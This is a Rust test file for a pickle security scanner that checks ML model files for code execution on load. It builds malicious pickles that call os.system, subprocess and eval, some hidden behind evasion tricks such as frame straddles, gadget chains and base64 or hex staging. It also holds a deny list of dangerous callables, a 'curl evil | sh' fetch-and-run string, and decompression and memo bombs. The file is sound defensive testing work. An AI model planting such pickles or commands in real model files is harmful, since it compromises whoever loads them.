//! The pickle machine and policy against pickles these tests build themselves (no file is
//! ever loaded by Python): each dangerous pattern, its benign look-alikes, streams, budgets.

use aisec_scan::craft::{self, call, PickleWriter, ZipWriter};
use aisec_scan::scanner::{scan_bytes, Limits, ScanOptions};
use aisec_scan::{ScanError, Verdict};

mod common;
use common::{corpus, dangerous, rules, safe, scan};

#[test]
fn every_dangerous_callable_is_caught() {
    let cases: &[(&str, &str)] = &[
        ("os", "system"),
        ("posix", "system"),
        ("nt", "system"),
        ("subprocess", "Popen"),
        ("subprocess", "check_output"),
        ("builtins", "eval"),
        ("builtins", "exec"),
        ("builtins", "compile"),
        ("builtins", "open"),
        ("builtins", "getattr"),
        ("builtins", "__import__"),
        ("importlib", "import_module"),
        ("pkgutil", "resolve_name"),
        ("runpy", "_run_code"),
        ("pip", "main"),
        ("ensurepip", "bootstrap"),
        ("marshal", "loads"),
        ("types", "FunctionType"),
        ("types", "CodeType"),
        ("operator", "attrgetter"),
        ("_operator", "methodcaller"),
        ("functools", "partial"),
        ("pdb", "run"),
        ("profile", "run"),
        ("cProfile", "run"),
        ("timeit", "timeit"),
        ("trace", "Trace"),
        ("webbrowser", "open"),
        ("socket", "create_connection"),
        ("ctypes", "CDLL"),
        ("code", "InteractiveInterpreter"),
        ("pty", "spawn"),
        ("asyncio.unix_events", "_UnixSubprocessTransport"),
        ("numpy.testing._private.utils", "runstring"),
        ("torch.serialization", "load"),
        ("shutil", "rmtree"),
        ("sys", "exit"),
        ("platform", "popen"),
    ];
    for (module, name) in cases {
        let r = dangerous(
            &format!("{module}.{name}"),
            &call(module, name, &["id"]),
            "AISEC-PKL-001",
        );
        let f = common::the_finding(&r, "AISEC-PKL-001");
        assert_eq!(
            f.call.as_deref(),
            Some(format!("{module}.{name}(\"id\")").as_str())
        );
        assert_eq!(f.opcode.as_deref(), Some("REDUCE"));
        assert!(f.atlas.contains(&"AML.T0011.000"));
        assert!(f.cwe.contains(&"CWE-502"));
    }
}

#[test]
fn python2_names_and_dotted_names_do_not_slip_past() {
    dangerous("py2", &call("__builtin__", "eval", &["1"]), "AISEC-PKL-001");
    dangerous(
        "py2-commands",
        &call("commands", "getoutput", &["id"]),
        "AISEC-PKL-001",
    );
    // Attribute chains resolved by find_class in protocol 4.
    let chained = PickleWriter::new()
        .proto(4)
        .stack_global("numpy.core.multiarray", "__builtins__.eval")
        .string("1")
        .tuple1()
        .reduce()
        .stop()
        .finish();
    dangerous("dotted", &chained, "AISEC-PKL-001");
}

#[test]
fn every_call_opcode_is_followed() {
    // Protocol 0, INST: `i os\nsystem\n` pops a MARK of arguments and calls.
    let inst = b"(S'id'\nios\nsystem\n.";
    let r = dangerous("inst", inst, "AISEC-PKL-001");
    assert_eq!(r.findings[0].opcode.as_deref(), Some("INST"));
    // OBJ: class and arguments after a MARK.
    let obj = PickleWriter::new()
        .proto(1)
        .mark()
        .global("os", "system")
        .string("id")
        .op(b'o')
        .stop()
        .finish();
    assert_eq!(
        dangerous("obj", &obj, "AISEC-PKL-001").findings[0]
            .opcode
            .as_deref(),
        Some("OBJ")
    );
    // NEWOBJ and NEWOBJ_EX.
    let newobj = PickleWriter::new()
        .proto(2)
        .global("subprocess", "Popen")
        .string("id")
        .tuple1()
        .newobj()
        .stop()
        .finish();
    dangerous("newobj", &newobj, "AISEC-PKL-001");
    let newobj_ex = PickleWriter::new()
        .proto(4)
        .stack_global("subprocess", "Popen")
        .string("id")
        .tuple1()
        .empty_dict()
        .op(0x92)
        .stop()
        .finish();
    dangerous("newobj_ex", &newobj_ex, "AISEC-PKL-001");
    // STACK_GLOBAL operands taken from the memo, behind a FRAME and MEMOIZE.
    let body = PickleWriter::new()
        .string("os")
        .memoize()
        .string("system")
        .memoize()
        .pop()
        .pop()
        .binget(0)
        .binget(1)
        .op(0x93)
        .string("id")
        .tuple1()
        .reduce()
        .stop()
        .finish();
    let mut framed = vec![0x80, 4, 0x95];
    framed.extend_from_slice(&(body.len() as u64).to_le_bytes());
    framed.extend_from_slice(&body);
    let r = dangerous("memo", &framed, "AISEC-PKL-001");
    assert!(r.findings[0]
        .call
        .as_deref()
        .unwrap()
        .starts_with("os.system("));
}

#[test]
fn gadget_chains_and_mutations() {
    let chain = corpus("getattr-chain.pkl");
    let r = dangerous("chain", &chain, "AISEC-PKL-005");
    let chained = common::the_finding(&r, "AISEC-PKL-005");
    assert_eq!(
        chained.call.as_deref(),
        Some("builtins.getattr(…(…), \"system\")(\"id\")")
    );
    // SETITEM on os.environ: LD_PRELOAD at load time.
    let environ = corpus("environ-setitem.pkl");
    dangerous("environ", &environ, "AISEC-PKL-004");
    // BUILD on an imported class that looks harmless.
    let build = PickleWriter::new()
        .proto(2)
        .global("collections", "OrderedDict")
        .empty_dict()
        .string("__reduce__")
        .none()
        .setitem()
        .build()
        .stop()
        .finish();
    dangerous("build", &build, "AISEC-PKL-004");
}

#[test]
fn benign_look_alikes_are_safe() {
    safe("state_dict", &craft::torch_state_dict(5, 16));
    // Strings that name dangerous things are data, not imports (a string holding a call in
    // source form is a staged payload: see pickles_and_code_staged_inside_values_are_scanned).
    let data = PickleWriter::new()
        .proto(2)
        .empty_dict()
        .string("cmd")
        .string("uses os.system and subprocess")
        .setitem()
        .string("eval")
        .string("__import__")
        .setitem()
        .stop()
        .finish();
    safe("strings", &data);
    for module in ["numpy.core.multiarray", "numpy._core.multiarray"] {
        let ok = PickleWriter::new()
            .proto(2)
            .global(module, "_reconstruct")
            .mark()
            .global("numpy", "ndarray")
            .int(0)
            .tuple1()
            .string("b")
            .tuple()
            .reduce()
            .mark()
            .int(1)
            .mark()
            .int(3)
            .tuple()
            .global("numpy", "dtype")
            .mark()
            .string("f8")
            .int(0)
            .int(1)
            .tuple()
            .reduce()
            .op(0x89)
            .bytes(&[0u8; 24])
            .tuple()
            .build()
            .stop()
            .finish();
        safe(module, &ok);
    }
    let builtins = PickleWriter::new()
        .proto(2)
        .mark()
        .global("builtins", "set")
        .empty_list()
        .tuple1()
        .reduce()
        .global("builtins", "complex")
        .mark()
        .int(1)
        .int(2)
        .tuple()
        .reduce()
        .global("datetime", "datetime")
        .bytes(b"\x07\xe9\x01\x01\x00\x00\x00\x00\x00\x00")
        .tuple1()
        .reduce()
        .tuple()
        .stop()
        .finish();
    safe("builtins", &builtins);
    // Modules that merely start like dangerous ones are not dangerous; calling them
    // unreviewed is suspicious.
    let r = scan("osmosis", &call("osmosis", "run", &[]));
    assert_eq!(r.verdict, Verdict::Suspicious);
    assert_eq!(rules(&r), vec!["AISEC-PKL-007"]);
}

#[test]
fn streams_of_pickles_and_long_prefixes() {
    let mut two = craft::torch_state_dict(1, 4);
    two.extend_from_slice(&call("os", "system", &["id"]));
    let r = dangerous("second.pkl", &two, "AISEC-PKL-001");
    assert!(rules(&r).contains(&"AISEC-PKL-006"));
    assert_eq!(r.pickles, 2);

    // 100 MB of benign bytes, then the call.
    let blob = vec![0x2eu8; 100 << 20];
    let long = PickleWriter::new()
        .proto(4)
        .bytes(&[])
        .pop()
        .raw(b"\x8e")
        .raw(&(blob.len() as u64).to_le_bytes())
        .raw(&blob)
        .pop()
        .global("os", "system")
        .string("id")
        .tuple1()
        .reduce()
        .stop()
        .finish();
    let r = dangerous("prefix.pkl", &long, "AISEC-PKL-001");
    assert!(r.findings[0].offset.unwrap() > 100 << 20);
}

#[test]
fn joblib_arrays_inline_in_the_stream() {
    // joblib: NumpyArrayWrapper BUILD, then the raw array bytes, then the pickle goes on.
    let wrapper = |w: PickleWriter, bytes: &[u8]| {
        w.global("joblib.numpy_pickle", "NumpyArrayWrapper")
            .empty_tuple()
            .newobj()
            .empty_dict()
            .string("subclass")
            .global("numpy", "ndarray")
            .setitem()
            .string("shape")
            .int(3)
            .tuple1()
            .setitem()
            .string("order")
            .string("C")
            .setitem()
            .string("dtype")
            .global("numpy", "dtype")
            .string("f8")
            .op(0x89)
            .op(0x88)
            .op(0x87)
            .reduce()
            .setitem()
            .string("allow_mmap")
            .op(0x89)
            .setitem()
            .string("numpy_array_alignment_bytes")
            .int(16)
            .setitem()
            .build()
            .raw(&[3, 0, 0, 0])
            .raw(bytes)
    };
    let array_bytes: Vec<u8> = (0..24u8).map(|b| b.wrapping_mul(37) | 0x80).collect();
    let benign = wrapper(
        PickleWriter::new().proto(4).empty_dict().string("coef_"),
        &array_bytes,
    )
    .setitem()
    .stop()
    .finish();
    let r = safe("model.joblib", &benign);
    assert_eq!(r.pickles, 1);
    let evil = wrapper(
        PickleWriter::new().proto(4).empty_dict().string("coef_"),
        &array_bytes,
    )
    .setitem()
    .global("os", "system")
    .string("id")
    .tuple1()
    .reduce()
    .pop()
    .stop()
    .finish();
    dangerous("evil.joblib", &evil, "AISEC-PKL-001");
}

#[test]
fn budgets_pass_big_benign_files_and_stop_bombs() {
    // A benign pickle of 10 million opcodes.
    let mut big = PickleWriter::new()
        .proto(4)
        .empty_list()
        .int(7)
        .binput(0)
        .pop();
    let mut body = Vec::with_capacity(10_000_000 * 2);
    for _ in 0..(10_000_000 - 6) / 2 {
        body.extend_from_slice(b"h\x00a");
    }
    big = big.raw(&body);
    let big = big.stop().finish();
    let r = safe("big.pkl", &big);
    assert!(r.opcodes >= 9_999_990, "{}", r.opcodes);

    // A 200 MB checkpoint, stored as torch.save stores it.
    let storage = vec![0u8; 200 << 20];
    safe(
        "big.pt",
        &craft::torch_zip(&craft::torch_state_dict(1, 50 << 20), &[storage]),
    );

    // Memo/DUP expansion: each round doubles the logical size.
    let mut bomb = PickleWriter::new().proto(4).empty_list().binput(0);
    for _ in 0..64 {
        bomb = bomb.binget(0).op(b'2').tuple2().binput(0).pop();
    }
    let r = scan("dup-bomb.pkl", &bomb.binget(0).stop().finish());
    assert!(
        matches!(&r.errors[..], [ScanError::Budget { message, .. }] if message.contains("expansion")),
        "{:?}",
        r.errors
    );

    // A decompression bomb under the default budgets: 1.5 GiB of zeros in ~1.5 MB of gzip.
    use std::io::Write;
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..1536 {
        enc.write_all(&chunk).unwrap();
    }
    let gz = enc.finish().unwrap();
    assert!(gz.len() < 8 << 20);
    let r = scan("bomb.gz", &gz);
    assert!(
        matches!(&r.errors[..], [ScanError::Budget { message, .. }] if message.contains("bomb")),
        "{:?}",
        r.errors
    );

    // Archives nested past the depth limit.
    let mut nested = call("os", "system", &["id"]);
    for i in 0..10 {
        nested = ZipWriter::new()
            .file(&format!("level{i}.zip"), &nested)
            .finish();
    }
    let r = scan("deep.zip", &nested);
    assert!(
        r.errors
            .iter()
            .any(|e| matches!(e, ScanError::Budget { message, .. } if message.contains("nested"))),
        "{:?}",
        r.errors
    );

    // Configured budgets are honoured.
    let tight = ScanOptions {
        limits: Limits {
            max_opcodes: 1000,
            ..Limits::default()
        },
        ..ScanOptions::default()
    };
    let r = scan_bytes("big.pkl", &big, &tight);
    assert!(matches!(&r.errors[..], [ScanError::Budget { .. }]));
}

#[test]
fn unreviewed_calls_are_suspicious_references_unknown_and_allowlists_clear_both() {
    let ours = call("mylab.models", "Net", &[]);
    let r = scan("ours.pkl", &ours);
    assert_eq!(r.verdict, Verdict::Suspicious);
    assert!(r.findings[0].message.contains("--allow mylab.models.Net"));
    // A plain reference (a class stored as a value, never called) is only unknown.
    let reference = PickleWriter::new()
        .proto(2)
        .global("mylab.models", "Net")
        .tuple1()
        .stop()
        .finish();
    let r = scan("ref.pkl", &reference);
    assert_eq!(r.verdict, Verdict::Unknown);
    assert_eq!(rules(&r), vec!["AISEC-PKL-003"]);
    let mut options = ScanOptions::default();
    options.policy.allow("mylab.models.Net", "ours").unwrap();
    assert_eq!(
        scan_bytes("ours.pkl", &ours, &options).verdict,
        Verdict::Safe
    );
    assert_eq!(
        scan_bytes("ref.pkl", &reference, &options).verdict,
        Verdict::Safe
    );
    // Framework classes that real checkpoints instantiate are on the allowlist.
    let sk = call("sklearn.linear_model._logistic", "LogisticRegression", &[]);
    safe("sk.pkl", &sk);
    // EXT codes name whatever the loading process registered: not resolvable, not safe.
    let ext = PickleWriter::new()
        .proto(2)
        .raw(&[0x82, 7])
        .empty_tuple()
        .reduce()
        .stop()
        .finish();
    dangerous("ext.pkl", &ext, "AISEC-PKL-001");
}

#[test]
fn the_labelled_corpus_gets_its_labels() {
    for s in aisec_scan::corpus::samples() {
        let r = scan(s.name, &s.data);
        assert!(r.errors.is_empty(), "{}: {:?}", s.name, r.errors);
        assert_eq!(
            r.verdict, s.expected,
            "{} ({}): {:#?}",
            s.name, s.what, r.findings
        );
    }
}

#[test]
fn a_payload_behind_a_frame_straddle_is_found() {
    // The FRAME ends inside GLOBAL's module line. Read on contiguously (pickle.loads,
    // frame-ignoring parsers) the module is `xposix`; read as CPython's C unpickler reads
    // torch.load's BytesIO (checked with CPython 3.11), the frame's "x" is dropped and the
    // module is `posix`.
    let mut data = vec![0x80, 4, 0x95];
    data.extend_from_slice(&2u64.to_le_bytes());
    data.extend_from_slice(b"cx");
    data.extend_from_slice(b"posix\nsystem\n(S'id'\ntR.");
    let r = dangerous("straddle.pkl", &data, "AISEC-PKL-008");
    assert_eq!(r.findings[0].offset, Some(11), "the GLOBAL opcode");
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "AISEC-PKL-001" && f.message.contains("posix.system")),
        "{:#?}",
        r.findings
    );
    // A fixed-size operand crossing the frame is read on by every C reader: reported, and
    // both readings agree.
    let mut bytes = vec![0x80, 4, 0x95];
    bytes.extend_from_slice(&7u64.to_le_bytes());
    bytes.extend_from_slice(b"B\x04\x00\x00\x00zzzz.");
    dangerous("straddle-bytes.pkl", &bytes, "AISEC-PKL-008");
    // An honest framed pickle (protocol 4 as Python writes it) has no straddle.
    let honest = PickleWriter::new()
        .proto(4)
        .raw(&[0x95])
        .raw(&4u64.to_le_bytes())
        .raw(b"K\x01N.")
        .finish();
    safe("framed.pkl", &honest);
}

#[test]
fn pickles_and_code_staged_inside_values_are_scanned() {
    let inner = call("os", "system", &["id"]);
    let hold = |value: PickleWriter| {
        PickleWriter::new()
            .proto(2)
            .empty_dict()
            .string("payload")
            .raw(&value.finish())
            .setitem()
            .stop()
            .finish()
    };
    let raw = hold(PickleWriter::new().bytes(&inner));
    let r = dangerous("raw.pkl", &raw, "AISEC-PKL-001");
    let hit = common::the_finding(&r, "AISEC-PKL-001");
    assert!(
        hit.member
            .as_deref()
            .is_some_and(|m| m.starts_with("<pickle in a bytes value at byte")),
        "{hit:?}"
    );
    assert!(rules(&r).contains(&"AISEC-PKL-009"));

    let b64: String = {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        inner
            .chunks(3)
            .flat_map(|c| {
                let n = (u32::from(c[0]) << 16)
                    | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
                    | u32::from(*c.get(2).unwrap_or(&0));
                (0..4).map(move |i| {
                    if i > c.len() {
                        '='
                    } else {
                        A[(n >> (18 - 6 * i) & 63) as usize] as char
                    }
                })
            })
            .collect()
    };
    let r = dangerous(
        "b64.pkl",
        &hold(PickleWriter::new().string(&b64)),
        "AISEC-PKL-001",
    );
    assert!(r.findings.iter().any(|f| f
        .member
        .as_deref()
        .is_some_and(|m| m.starts_with("<base64 pickle in a string"))));

    let hex: String = inner.iter().map(|b| format!("{b:02x}")).collect();
    dangerous(
        "hex.pkl",
        &hold(PickleWriter::new().string(&hex)),
        "AISEC-PKL-001",
    );

    let source = "import os\nos.system('curl evil | sh')\n";
    let r = scan("src.pkl", &hold(PickleWriter::new().string(source)));
    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
    assert_eq!(rules(&r), vec!["AISEC-PKL-009"]);

    // A benign pickle inside is reported, but only its own verdict counts; prose is prose.
    let benign = hold(PickleWriter::new().bytes(&craft::torch_state_dict(1, 4)));
    assert_eq!(scan("benign-inner.pkl", &benign).verdict, Verdict::Unknown);
    safe(
        "prose.pkl",
        &hold(PickleWriter::new().string("a learning-rate schedule with warm restarts")),
    );
}

/// A model with nine objects of one unknown class, or nine identical calls, is one finding
/// nine times (with the offsets of the repeats), not nine findings; different calls stay apart.
#[test]
fn repeats_of_one_finding_are_folded_with_their_offsets() {
    let mut w = PickleWriter::new().proto(2).empty_list();
    for _ in 0..9 {
        w = w
            .global("posix", "system")
            .binunicode("true")
            .tuple1()
            .reduce()
            .append();
    }
    let bytes = w
        .global("posix", "system")
        .binunicode("id")
        .tuple1()
        .reduce()
        .append()
        .stop()
        .finish();
    let r = scan_bytes("nine.pkl", &bytes, &ScanOptions::default());
    assert_eq!(r.verdict, Verdict::Dangerous);
    assert_eq!(r.findings.len(), 2, "{:#?}", r.findings);
    let nine = &r.findings[0];
    assert_eq!(nine.call.as_deref(), Some("posix.system(\"true\")"));
    assert_eq!(nine.occurrences, 9);
    assert_eq!(nine.repeated_at.len(), 8);
    assert!(nine
        .repeated_at
        .windows(2)
        .all(|w| w[0] < w[1] && Some(w[0]) > nine.offset));
    assert_eq!(r.findings[1].occurrences, 1);
    let json = serde_json::to_value(&r.findings[1]).unwrap();
    assert!(json.get("occurrences").is_none(), "{json}");
    let sarif = aisec_scan::sarif::to_sarif(&aisec_scan::scanner::ScanReport {
        files: vec![r],
        strict: false,
        limits: Limits::default(),
    });
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert_eq!(results.len(), 2);
    assert_eq!(results[0]["level"], "error");
    assert!(results[0]["message"]["text"]
        .as_str()
        .unwrap()
        .contains("9 occurrences"));
}

/// `functools.partial(f, …)` only builds a callable: wrapping an allowed class (torchvision's
/// ViT stores `partial(nn.LayerNorm, eps=1e-6)`) is safe; wrapping anything else, or calling
/// the partial inside the pickle, is not.
#[test]
fn partial_is_judged_by_what_it_wraps() {
    let partial_of = |module: &str, name: &str| {
        PickleWriter::new()
            .proto(2)
            .global("functools", "partial")
            .global(module, name)
            .tuple1()
            .reduce()
    };
    safe(
        "layer_factory.pkl",
        &partial_of("torch.nn.modules.normalization", "LayerNorm")
            .stop()
            .finish(),
    );
    dangerous(
        "partial_system.pkl",
        &partial_of("os", "system").stop().finish(),
        "AISEC-PKL-001",
    );
    // partial(print)("x"): the partial is called in the pickle itself.
    let called = partial_of("torch.nn.modules.normalization", "LayerNorm")
        .string("x")
        .tuple1()
        .reduce()
        .stop()
        .finish();
    dangerous("partial_called.pkl", &called, "AISEC-PKL-005");
    // Unknown wrapped callables keep functools denied.
    dangerous(
        "partial_unknown.pkl",
        &partial_of("mymodule", "helper").stop().finish(),
        "AISEC-PKL-001",
    );
}

/// Python 2 names as Python 3's unpickler maps them before it imports (`_compat_pickle`):
/// `__builtin__.long` loads `builtins.int`, `__builtin__.reduce` loads `functools.reduce`.
#[test]
fn python2_names_are_judged_as_python3_loads_them() {
    safe("long.pkl", b"c__builtin__\nlong\n(I5\ntR.");
    safe("xrange.pkl", b"c__builtin__\nxrange\n(I5\ntR.");
    dangerous(
        "reduce.pkl",
        b"c__builtin__\nreduce\n(S'a'\ntR.",
        "AISEC-PKL-001",
    );
    dangerous(
        "urlopen.pkl",
        b"curllib\nurlopen\n(S'http://x'\ntR.",
        "AISEC-PKL-001",
    );
}
